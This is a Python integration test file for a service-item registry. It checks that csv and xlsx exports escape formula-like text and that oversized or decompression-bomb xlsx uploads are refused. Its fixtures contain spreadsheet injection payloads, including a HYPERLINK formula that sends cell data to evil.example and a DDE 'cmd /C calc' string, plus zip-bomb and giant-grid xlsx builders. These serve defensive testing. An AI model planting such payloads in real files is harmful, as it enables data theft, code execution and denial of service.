"""The registry's files on a real database, as an attacker and a newcomer meet them: csv exports that no spreadsheet
runs as formulas and that import back unchanged, xlsx uploads that would expand beyond any item list refused with a
reason, form uploads, the caller's recent import jobs, a round trip of an export holding a cancelled item, and what
an unknown exercise level's message offers instead."""

from __future__ import annotations

import asyncio
import copy
import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest

from shared.auth import Principal, mint_token
from shared.dictionaries import load_dictionaries
from shared.settings import DEVELOPMENT_JWT_SECRET
from tests.integration.test_registry_helpers import FULL, MINIMAL, RegistryClient, start_client
from tests.integration.test_registry_imports import csv_bytes, errors_by_row, row_for, xlsx_bytes

from registry.domain.errors import ImportFileTooLargeError
from registry.domain.tabular import HEADERS

DICTIONARIES = load_dictionaries()
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def wait_for(api: RegistryClient, job: dict[str, Any], *, user: str = "entry-gz") -> dict[str, Any]:
    """The job once it has ended (its status is a row read over HTTP: polled)."""
    deadline = asyncio.get_running_loop().time() + 120
    while job["status"] in ("queued", "running"):
        assert asyncio.get_running_loop().time() < deadline, job
        await asyncio.sleep(0.05)
        job = (await api.call("GET", f"/imports/{job['job_id']}", user=user)).json()
    return job


# ---- csv exports: formula injection ----------------------------------------------------------------------------------
def injected() -> dict[str, Any]:
    elements = copy.deepcopy(FULL)
    elements.update(implementing_agency='=HYPERLINK("http://evil.example/?"&A1,"点我查看")',
                    competent_department="+cmd|' /C calc'!A0", source_ref="=1+1")
    elements["service_guide"].update(place="@SUM(1+1)*cmd|' /C calc'!A0", hours="-2+3 工作日",
                                     consultation_contact="'=不是公式")
    elements["service_guide"]["steps"] = ["=1+1", "受理"]
    return elements


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
async def test_a_csv_export_never_holds_a_formula_and_imports_back_unchanged(api: RegistryClient,
                                                                              encoding: str) -> None:
    created = await api.create(injected())
    exported = await api.call("GET", "/exports/items.csv", params={"encoding": encoding})
    text = exported.content.decode("utf-8-sig" if encoding == "utf-8" else "gb18030")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header == list(HEADERS) and len(rows) == 1
    assert not [cell for cell in rows[0] if cell.startswith(FORMULA_STARTS)]  # nothing a spreadsheet would run
    data_line = text.splitlines()[1]
    assert data_line.startswith('"\'=1+1","') and '"\'=HYPERLINK(' in data_line  # escaped, and every cell quoted
    assert "\"''=不是公式\"" in text  # a cell that already starts with a quote is escaped too

    events_before = await api.event_count()
    job = await api.import_file(exported.content, filename="事项清单.csv")
    assert (job["created"], job["revised"], job["unchanged"], job["failed"]) == (0, 0, 1, 0), job
    assert await api.event_count() == events_before
    stored = (await api.call("GET", f"/items/{created['item_id']}")).json()
    assert stored["source_ref"] == "=1+1" and stored["elements"]["service_guide"]["steps"][0] == "=1+1"


async def test_the_xlsx_export_keeps_formula_like_text_as_text(api: RegistryClient) -> None:
    await api.create(injected())
    exported = await api.call("GET", "/exports/items.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(exported.content))["事项清单"]
    cell = sheet.cell(2, HEADERS.index("实施机关") + 1)
    assert cell.data_type == "s" and cell.value == injected()["implementing_agency"]
    with zipfile.ZipFile(io.BytesIO(exported.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no cell is a formula


# ---- xlsx that would expand beyond any item list ---------------------------------------------------------------------
def template_parts() -> dict[str, bytes]:
    book = openpyxl.Workbook()
    book.active.title = "事项清单"
    book.active.append(list(HEADERS))
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(book))) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def zip_bomb(path: Path, cell_mib: int = 1024) -> Path:
    """≈1 MB of xlsx whose second row holds one cell of ``cell_mib`` MiB (written as a stream: never in memory)."""
    parts = template_parts()
    head, tail = parts.pop("xl/worksheets/sheet1.xml").split(b"</sheetData>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(head + b'<row r="2"><c r="A2" t="inlineStr"><is><t>')
            block = b"a" * (1 << 20)
            for _ in range(cell_mib):
                sheet.write(block)
            sheet.write(b"</t></is></c></row></sheetData>" + tail)
    return path


def far_corners(path: Path) -> Path:
    """Cells at A1 and XFD1048576, the sheet's dimension saying so (calamine would allocate the grid between)."""
    parts = template_parts()
    sheet = parts["xl/worksheets/sheet1.xml"].replace(b"</sheetData>", (
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'))
    parts["xl/worksheets/sheet1.xml"] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', sheet)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


@pytest.mark.parametrize(("make", "says"), [(zip_bomb, "超过 32767 个字符的单元格"), (far_corners, "第 ZZ 列之后")])
async def test_an_xlsx_beyond_any_item_list_fails_its_job_with_the_reason_and_no_reader_dies(
        api: RegistryClient, tmp_path: Path, make: Any, says: str) -> None:
    from registry.adapters.import_reading import PreparedFile

    path = make(tmp_path / "upload.xlsx")
    assert path.stat().st_size < 2 * 1024 * 1024  # a small upload
    items_before = await api.item_count()
    job = await api.import_file(path.read_bytes(), filename="事项清单.xlsx")
    assert (job["status"], job["error_code"]) == ("failed", "IMPORT_FILE_TOO_LARGE_EXPANDED"), job
    assert says in job["error"] and "意外退出" not in job["error"]
    assert await api.item_count() == items_before

    # The reader process says why and ends by itself: it was neither killed nor aborted.
    reading = PreparedFile(path, "xlsx", DICTIONARIES, Principal("entry", frozenset({"entry"}), ("44",)),
                           datetime.now(UTC).date(), chunk_size=100).start()
    try:
        with pytest.raises(ImportFileTooLargeError):
            await reading.head()
        await asyncio.to_thread(reading._process.join, 60)
        assert reading._process.exitcode == 0
    finally:
        reading.close()


# ---- form uploads ----------------------------------------------------------------------------------------------------
async def test_a_form_upload_is_imported_like_the_file_itself(api: RegistryClient) -> None:
    content = csv_bytes([row_for("FORM-1", MINIMAL)], "utf-8")
    # as a Windows browser with Excel installed labels a .csv file
    response = await api.call("POST", "/imports", files={"file": ("广州清单.csv", content, "application/vnd.ms-excel")})
    assert response.status_code == 202, response.text
    job = await wait_for(api, response.json())
    assert (job["status"], job["format"], job["filename"], job["created"]) == ("completed", "csv", "广州清单.csv", 1)
    assert response.headers["Location"] == f"/registry/v1/imports/{job['job_id']}"


async def test_a_form_upload_without_a_file_field_is_refused_and_starts_nothing(api: RegistryClient) -> None:
    response = await api.call("POST", "/imports", files={"upload": ("a.csv", b"x", "text/csv")})
    assert response.status_code == 400 and response.json()["code"] == "IMPORT_UPLOAD_MALFORMED"
    assert "file" in response.json()["message"]
    assert (await api.call("GET", "/imports")).json()["jobs"] == []


async def test_a_form_upload_beyond_the_size_limit_is_refused_while_it_arrives(database_url: str) -> None:
    async for client in start_client(database_url, import_max_mb=1):
        big = csv_bytes([row_for(f"BIG-{i}", MINIMAL) for i in range(9000)], "utf-8")
        assert len(big) > 1024 * 1024
        response = await client.call("POST", "/imports", files={"file": ("big.csv", big, "text/csv")})
        assert response.status_code == 413 and response.json()["code"] == "IMPORT_TOO_LARGE"
        assert (await client.call("GET", "/imports")).json()["jobs"] == []


# ---- the caller's recent jobs ----------------------------------------------------------------------------------------
async def call_as(api: RegistryClient, path: str, *, roles: list[str], regions: list[str],
                  **params: Any) -> httpx.Response:
    token = mint_token(DEVELOPMENT_JWT_SECRET, subject=f"{roles[0]}-{'-'.join(regions)}", roles=roles,
                       regions=regions)
    return await api.http.get(f"/registry/v1{path}", params=params, headers={"Authorization": f"Bearer {token}"})


async def test_the_callers_recent_import_jobs_come_newest_first_in_pages(api: RegistryClient) -> None:
    mine = [await api.import_file(csv_bytes([row_for(f"J-{i}", MINIMAL)], "utf-8"), filename=f"{i}.csv")
            for i in range(3)]
    theirs = await api.import_file(csv_bytes([row_for("SZ-1", {**MINIMAL, "region_code": "440305"})], "utf-8"),
                                   user="entry-sz")
    first = (await api.call("GET", "/imports", params={"limit": 2})).json()
    assert [j["job_id"] for j in first["jobs"]] == [mine[2]["job_id"], mine[1]["job_id"]]
    assert first["jobs"][0] == mine[2]  # the same view as GET /imports/{job}
    second = (await api.call("GET", "/imports", params={"limit": 2, "cursor": first["next_cursor"]})).json()
    assert [j["job_id"] for j in second["jobs"]] == [mine[0]["job_id"]] and second["next_cursor"] is None
    assert [j["job_id"] for j in (await api.call("GET", "/imports", user="entry-sz")).json()["jobs"]] == [
        theirs["job_id"]]

    async def seen_by_admin(regions: list[str]) -> list[str]:
        return [j["job_id"] for j in (await call_as(api, "/imports", roles=["admin"], regions=regions)).json()["jobs"]]

    assert await seen_by_admin(["*"]) == [theirs["job_id"], *(j["job_id"] for j in reversed(mine))]
    assert await seen_by_admin(["4403"]) == [theirs["job_id"]]  # only jobs started within the admin's regions
    assert await seen_by_admin(["44"]) == await seen_by_admin(["*"])
    assert await seen_by_admin(["11"]) == []
    bad = await api.call("GET", "/imports", params={"cursor": "not-a-cursor"})
    assert bad.status_code == 422 and bad.json()["code"] == "INVALID_CURSOR"


# ---- a round trip of an unedited export ------------------------------------------------------------------------------
@pytest.mark.parametrize("path", ["/exports/items.csv", "/exports/items.xlsx"])
async def test_an_unedited_export_holding_a_cancelled_item_imports_back_without_a_single_error(
        api: RegistryClient, path: str) -> None:
    names = ["出生登记", "分户登记"]
    rows = [row_for(f"C-{i}", {**FULL, "name": name, "short_name": name}) for i, name in enumerate(names)]
    await api.import_file(csv_bytes(rows, "utf-8"))
    ids = {i["source_ref"]: i["item_id"] for i in (await api.call("GET", "/items")).json()["items"]}
    await api.lifecycle(ids["C-1"], "lifecycle.item.cancelled.v1", 3, phase="cancelled")
    exported = await api.call("GET", path)
    events_before = await api.event_count()
    job = await api.import_file(exported.content, filename=path.rsplit("/", 1)[1])
    assert (job["created"], job["revised"], job["unchanged"], job["failed"], job["errors_total"]) == (0, 0, 2, 0, 0)
    assert await api.event_count() == events_before
    changed = [row_for("C-1", {**FULL, "name": "分户登记", "short_name": "分户登记", "implementing_agency": "改了"})]
    refused = await api.import_file(csv_bytes(changed, "utf-8"))
    assert errors_by_row(refused) == {2: {("来源编号", "ITEM_CANCELLED")}}  # a change is still refused


# ---- the template and an unknown exercise level ----------------------------------------------------------------------
async def test_a_typed_exercise_level_outside_the_drop_down_says_which_ones_are_accepted(api: RegistryClient) -> None:
    book = openpyxl.load_workbook(io.BytesIO((await api.call("GET", "/imports/template.xlsx")).content))
    column = openpyxl.utils.get_column_letter(HEADERS.index("行使层级") + 1)
    assert any(str(v.sqref).startswith(f"{column}2") for v in book["事项清单"].data_validations.dataValidation)
    row = row_for("LEVEL-1", FULL)
    row[HEADERS.index("行使层级")] = "县级"
    book["事项清单"].append(row)
    job = await api.import_file(xlsx_bytes(book), filename="清单.xlsx")
    [error] = job["errors"]
    assert (error["column"], error["code"]) == ("行使层级", "UNKNOWN_CODE")
    assert "“县级”" in error["message"] and "4 区县级" in error["message"]
